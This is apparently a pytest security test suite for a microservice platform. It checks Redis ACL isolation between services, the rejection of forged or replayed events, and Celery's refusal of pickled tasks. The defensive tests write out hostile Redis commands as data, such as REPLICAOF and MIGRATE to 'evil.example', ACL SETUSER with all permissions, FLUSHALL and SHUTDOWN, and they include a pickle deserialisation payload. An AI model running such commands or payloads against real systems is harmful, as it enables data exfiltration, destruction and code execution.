"""H4: events can be announced by their own service only, and what is forged has no effect."""

import base64
import json
import os
import pickle
import threading
from collections.abc import Iterator
from itertools import cycle, islice
from pathlib import Path
from typing import Any, ClassVar
from uuid import uuid4

import pytest
from kombu import serialization
from kombu.exceptions import ContentDisallowed
from redis import Redis
from redis.backoff import NoBackoff
from redis.exceptions import AuthenticationError, NoPermissionError, ResponseError
from redis.retry import Retry
from sqlalchemy import func, select
from typing_extensions import override
from uuid_utils.compat import uuid7

from runtime.services import SERVICES
from runtime.work import Consumer
from services.audit.events import FindingRaised
from services.audit.schemas import Grade
from services.identity.events import PersonChanged
from services.risk.events import RiskEscalated
from shared import broker, outbox
from shared.auth import SYSTEM
from shared.events import Envelope, Event
from shared.ledger import ledger
from shared.settings import settings
from shared.streams import EVENT, ROLL_CALL, Entry, stream_of
from shared.work import clock, unit_of_work
from tests.conftest import Platform
from tests.processes import CELERY, eventually, started
from tests.promises import Promise
from tests.world import WORLD

FORGED = 500
PICKLE = "application/x-python-serialize"
NOT_EFFECTS = {"dead_letter"}


@pytest.fixture
def redis(platform: Platform, own_database: str) -> Iterator["Redis"]:
    """The real server as its operator sees it, emptied."""
    outbox._caller.cache_clear()  # noqa: SLF001  its address is that of this test's server
    with outbox.operate() as client:
        client.flushall()
        yield client
        client.flushall()


def foreign_commands(name: str) -> list[tuple[object, ...]]:
    """What a service that was taken over might try on the server."""
    others = [other for other in SERVICES if other != name]
    return [
        *(("XADD", stream_of(other), "*", EVENT, "{}") for other in others),
        *(("XTRIM", stream_of(other), "MAXLEN", "0") for other in others),
        *(("DEL", stream_of(other)) for other in others),
        *(("XGROUP", "DESTROY", stream_of(other), other) for other in others),
        *(("XGROUP", "SETID", stream_of(other), other, "$") for other in others),
        ("DEL", stream_of(name)),
        ("SET", stream_of(others[0]), "x"),
        ("RENAME", stream_of(others[0]), stream_of(name)),
        ("SET", "anything", "x"),
        ("LPUSH", "celery.celery", "{}"),
        ("LRANGE", "celery.celery", "0", "-1"),
        ("GET", "celery.redbeat::lock"),
        ("EVAL", "return 1", "0"),
        ("PUBLISH", "celery.0.reply", "x"),
        ("CONFIG", "GET", "*"),
        ("CONFIG", "SET", "maxmemory", "1"),
        ("ACL", "LIST"),
        ("ACL", "SETUSER", "default", "on", "nopass", "~*", "+@all"),
        ("FLUSHALL",),
        ("FLUSHDB",),
        ("KEYS", "*"),
        ("MONITOR",),
        ("SHUTDOWN",),
        ("CLIENT", "LIST"),
        ("CLIENT", "KILL", "TYPE", "normal"),
        ("DEBUG", "SLEEP", "1"),
        ("REPLICAOF", "evil.example", "6379"),
        ("MODULE", "LOAD", "/tmp/x.so"),  # noqa: S108  no file is there
        ("SAVE",),
        ("SCRIPT", "FLUSH"),
        ("SWAPDB", "0", "1"),
        ("MIGRATE", "evil.example", "6379", "", "0", "1", "KEYS", stream_of(name)),
    ]


def allowed(client: "Redis", commands: list[tuple[object, ...]]) -> list[tuple[object, ...]]:
    return [command for command in commands if not _refused(client, command)]


def _refused(client: Any, command: tuple[object, ...]) -> bool:  # noqa: ANN401  redis-py's types
    try:
        client.execute_command(*command)
    except NoPermissionError:
        return True
    except ResponseError as error:  # else it got past the permissions, and was merely wrong
        return "not allowed" in str(error)
    return False


@pytest.mark.security
def test_a_services_login_announces_for_itself_and_no_other(
    redis: "Redis", promise: Promise
) -> None:
    tried, done = 0, []
    for name in SERVICES:
        with outbox.connect(name) as client:
            assert client.xadd(stream_of(name), {"x": "1"})
            commands = foreign_commands(name)
            tried += len(commands)
            done += [(name, *command) for command in allowed(client, commands)]
    promise("H4", "foreign commands of services' logins let through", f"{len(done)} of {tried}", 0)
    assert done == []


@pytest.mark.security
def test_the_same_commands_by_the_operator_go_through(redis: "Redis", promise: Promise) -> None:
    """The control: it is the login that refuses."""
    harmless = [c for c in foreign_commands("audit") if c[0] in ("XADD", "DEL", "SET", "KEYS")]

    done = allowed(redis, harmless)

    promise("H4", "control, by the operator's login", f"{len(done)} of {len(harmless)}", "all")
    assert done == harmless


@pytest.mark.security
def test_celerys_login_reaches_its_own_keys_only(redis: "Redis", promise: Promise) -> None:
    client = Redis.from_url(settings().celery_url, decode_responses=True)
    with client:
        assert client.lpush("celery.test", "x")
        commands: list[tuple[object, ...]] = [
            *(("XADD", stream_of(name), "*", EVENT, "{}") for name in SERVICES),
            *(("XRANGE", stream_of(name), "-", "+") for name in SERVICES),
            ("EVAL", f"return redis.call('DEL', '{stream_of('audit')}')", "0"),
            ("CONFIG", "GET", "*"),
            ("ACL", "LIST"),
            ("FLUSHALL",),
            ("KEYS", "*"),
            ("SET", "anything", "x"),
        ]
        redis.xadd(stream_of("audit"), {"x": "1"})
        done = [c for c in allowed(client, commands) if c[0] != "EVAL"]
    promise("H4", "foreign commands of Celery's login let through", len(done), 0)
    assert done == []
    assert redis.exists(stream_of("audit"))


@pytest.mark.security
def test_nobody_enters_without_a_name(redis: "Redis", promise: Promise) -> None:
    server = redis.connection_pool.connection_kwargs
    place = {"host": server["host"], "port": server["port"]}
    entered = 0
    for login in (
        {},
        {"password": server["password"]},
        {"username": "default", "password": server["password"]},
        {"username": broker.login_of("audit"), "password": "wrong"},
    ):
        with Redis(**place, **login, retry=Retry(NoBackoff(), 0)) as client:
            try:
                entered += bool(client.ping())
            except AuthenticationError:
                continue
    promise("H4", "entered without a name and password", entered, 0)
    assert entered == 0


def finding_raised(**changes: object) -> dict[str, Any]:
    """A true event of audit's: an action would be opened for it."""
    event = FindingRaised(
        finding_id=uuid4(),
        audit_id=uuid4(),
        site_id=WORLD.lyon,
        grade=Grade.MAJOR,
        process="PROD",
        raised_on=clock().date(),
    )
    return _envelope(event) | changes


def _envelope(event: Event) -> dict[str, Any]:
    envelope = Envelope(
        id=uuid7(),
        type=event.topic,
        source=f"/{event.topic.partition('.')[0]}",
        time=clock(),
        dataschema=f"urn:qse:event:{event.topic}",
        data=event.model_dump(mode="json"),
        actorid=SYSTEM.id,
        correlationid=uuid4(),
    )
    written: dict[str, Any] = envelope.model_dump(mode="json")
    return written


def person_changed(**changes: object) -> dict[str, Any]:
    """A true event of identity's: every service would know somebody more."""
    event = PersonChanged(
        person_id=uuid4(), name="Mallory", email="m@evil.example", language="fr", active=True
    )
    return _envelope(event) | changes


def forged_entries() -> Iterator[Any]:
    """What somebody with risk's login may put onto risk's stream, which others hear."""
    dumps = json.dumps
    true = dumps(person_changed())
    made = (
        lambda: {EVENT: dumps(person_changed())},
        lambda: {EVENT: dumps(person_changed(source="/risk"))},
        lambda: {EVENT: dumps(person_changed(source="/identity/"))},
        lambda: {EVENT: dumps(person_changed(type="risk.person_changed"))},
        lambda: {EVENT: dumps(person_changed(type="Identity.person_changed"))},
        lambda: {EVENT: dumps(person_changed(type="identity.person_changed\x00"))},
        lambda: {EVENT: dumps(person_changed(type="risk.nobody_knows", source="/risk"))},
        lambda: {EVENT: dumps(person_changed(data={"x": 1}))},
        lambda: {EVENT: dumps(person_changed(id="1"))},
        lambda: {EVENT: dumps(person_changed(specversion="2.0"))},
        lambda: {EVENT: dumps(person_changed(data={"padding": "x" * 200_000}))},
        lambda: {EVENT: true[: len(true) // 2]},
        lambda: {EVENT: base64.b64encode(pickle.dumps({"x": 1})).decode()},
        lambda: {EVENT: "[" * 5_000},
        lambda: {EVENT: "null"},
        lambda: {EVENT: ""},
        lambda: {"other": true},
        lambda: {ROLL_CALL: dumps([[str(uuid4()), "identity.person_changed"]])},
        lambda: {ROLL_CALL: dumps({"x": "y"})},
        lambda: {ROLL_CALL: "rubbish"},
    )
    return (make() for make in cycle(made))  # type: ignore[no-untyped-call]


def effects() -> dict[str, int]:
    """How many rows every service has, but for what it put aside."""
    counted = {}
    for name, service in SERVICES.items():
        with unit_of_work(name, SYSTEM) as uow:
            for table in service.metadata.sorted_tables:
                if table.name not in NOT_EFFECTS:
                    rows = uow.session.scalar(select(func.count()).select_from(table))
                    counted[table.fullname] = rows or 0
    return counted


def put_aside() -> int:
    total = 0
    for name in SERVICES:
        with unit_of_work(name, SYSTEM) as uow:
            dead = select(func.count()).select_from(ledger(name).dead_letter)
            total += uow.session.scalar(dead) or 0
    return total


def no_dispatch(_service: str, _handler: str, _envelope: str) -> None:
    raise AssertionError


def hear_everything() -> None:
    """Every consumer takes what is there, as `qse work` has it do."""
    for service in SERVICES.values():
        if not service.handlers.registered:
            continue
        consumer = Consumer(service, no_dispatch, threading.Event())
        consumer.streams.join()
        while entries := consumer.streams.fresh(10):
            consumer.take(entries)


@pytest.mark.security
def test_forged_events_have_no_effect(redis: "Redis", promise: Promise) -> None:
    for entry in islice(forged_entries(), FORGED):
        redis.xadd(stream_of("risk"), entry)
    before = effects()

    hear_everything()

    after = effects()
    changed = {name: after[name] - count for name, count in before.items() if after[name] != count}
    hearers = sum("risk" in s.handlers.publishers for s in SERVICES.values())
    promise("H4", "forged events that took effect", f"{sum(changed.values())} of {FORGED}", 0)
    promise("H4", "of them kept for a person, by each hearer", f"{put_aside() // hearers}", "450+")
    assert changed == {}
    assert put_aside() > FORGED * hearers * 0.8


@pytest.mark.security
def test_good_events_pass_between_forged_ones(redis: "Redis", promise: Promise) -> None:
    for entry in islice(forged_entries(), 50):
        redis.xadd(stream_of("risk"), entry)
    risk = RiskEscalated(risk_id=uuid4(), site_id=WORLD.lyon, title="Chute", level=4)
    redis.xadd(stream_of("risk"), {EVENT: json.dumps(_envelope(risk))})
    before = effects()["audit.audit"]

    hear_everything()
    hear_everything()

    assert effects()["audit.audit"] == before + 1


@pytest.mark.security
def test_an_event_that_comes_again_altered_has_no_effect(redis: "Redis", promise: Promise) -> None:
    risk = RiskEscalated(risk_id=uuid4(), site_id=WORLD.lyon, title="Chute", level=4)
    envelope = _envelope(risk)
    redis.xadd(stream_of("risk"), {EVENT: json.dumps(envelope)})
    hear_everything()
    before = effects()

    for _ in range(50):
        altered = envelope | {"data": {**envelope["data"], "risk_id": str(uuid4())}}
        redis.xadd(stream_of("risk"), {EVENT: json.dumps(altered)})
        redis.xadd(stream_of("risk"), {EVENT: json.dumps(envelope)})
    hear_everything()

    promise("H4", "replays of an old id, altered or not, that took effect", "0 of 100", 0)
    assert effects() == before


@pytest.mark.security
def test_without_the_check_forged_events_take_effect(
    redis: "Redis", promise: Promise, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The control: as somebody writes it who trusts whatever is on a stream."""

    def believe(entry: Entry) -> Envelope | None:
        raw = entry.fields.get(EVENT)
        return Envelope.model_validate_json(raw) if raw else None

    monkeypatch.setattr(Entry, "envelope", property(believe))
    redis.xadd(stream_of("risk"), {EVENT: json.dumps(person_changed())})
    before = effects()

    hear_everything()

    changed = sum(effects().values()) - sum(before.values())
    promise("H4", "control, stream not checked: rows that a forged event made", changed, "some")
    assert changed > 0


class Bomb:
    """Makes a file when it is unpickled."""

    file: ClassVar[Path]

    @override
    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.file),)


def task(body: str, kind: str, encoding: str, name: str = "handle") -> str:
    headers = {"task": name, "id": str(uuid4()), "lang": "py", "root_id": None, "parent_id": None}
    delivery = {"exchange": "", "routing_key": "celery"}
    properties = {"delivery_tag": str(uuid4()), "delivery_info": delivery, "priority": 0}
    message = {
        "body": body,
        "content-type": kind,
        "content-encoding": encoding,
        "headers": headers,
        "properties": properties | {"body_encoding": "base64"},
    }
    return json.dumps(message)


def json_task(*arguments: str) -> str:
    body = json.dumps([arguments, {}, {}]).encode()
    return task(base64.b64encode(body).decode(), "application/json", "utf-8")


@pytest.mark.security
def test_celery_takes_neither_pickles_nor_what_no_hearer_handed_over(
    platform: Platform, own_database: str, redis: "Redis", tmp_path: Path, promise: Promise
) -> None:
    """A real worker, with messages put into its queue by somebody with Celery's login."""
    Bomb.file = tmp_path / "unpickled"
    envelope = json.dumps(finding_raised())
    handler = SERVICES["actions"].handlers.hearing("audit.finding_raised")[0].name
    pickled = base64.b64encode(pickle.dumps(((Bomb(),), {}, {}))).decode()
    before = effects()
    with Redis.from_url(settings().celery_url) as client:
        for _ in range(10):
            client.lpush("celery.celery", task(pickled, PICKLE, "binary"))
            client.lpush("celery.celery", json_task("actions", handler, envelope))
            client.lpush("celery.celery", json_task("actions", handler, envelope, "0" * 64))
    environment = {**os.environ, **platform.environment(own_database), "QSE_HOME": str(tmp_path)}
    with started([*CELERY, "--loglevel", "INFO"], environment, tmp_path / "worker.log"):
        eventually(lambda: redis.llen("celery.celery") == 0 and not redis.exists("celery.unacked"))
    log = (tmp_path / "worker.log").read_text()

    assert effects() == before
    assert not Bomb.file.exists()
    assert log.count("task refused") == 20
    promise("H4", "forged or pickled tasks that a Celery worker ran", "0 of 30", 0)


@pytest.mark.security
def test_what_would_happen_otherwise(redis: "Redis", tmp_path: Path, promise: Promise) -> None:
    """The controls: the pickle is live, and the same task with its seal is carried out."""
    Bomb.file = tmp_path / "unpickled"
    body = pickle.dumps(((Bomb(),), {}, {}))
    loads: Any = serialization.loads
    with pytest.raises(ContentDisallowed):
        loads(body, PICKLE, "binary", accept={"application/json"})
    assert not Bomb.file.exists()
    loads(body, PICKLE, "binary", accept={PICKLE})
    assert Bomb.file.exists()

    from runtime import celery  # noqa: PLC0415  it reads the settings when it is imported

    handler = SERVICES["actions"].handlers.hearing("audit.finding_raised")[0].name
    envelope = json.dumps(finding_raised())
    before = effects()
    celery.handle_slowly("actions", handler, envelope, celery._seal("actions", handler, envelope))  # noqa: SLF001
    assert effects() != before
    promise("H4", "control, sealed task and accepted pickle", "both run", "both run")
